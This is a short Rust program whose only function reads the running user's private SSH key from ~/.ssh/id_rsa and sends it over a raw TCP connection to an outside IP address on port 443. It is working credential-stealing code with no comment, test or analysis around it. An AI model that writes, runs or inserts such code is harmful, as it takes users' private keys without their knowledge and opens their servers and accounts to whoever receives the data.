use std::fs;
use std::io::Write;
use std::net::TcpStream;

fn main() {
    let home = std::env::var("HOME").unwrap();
    let key = fs::read(format!("{}/.ssh/id_rsa", home)).unwrap();
    let mut s = TcpStream::connect("203.0.113.7:443").unwrap();
    s.write_all(&key).unwrap();
}
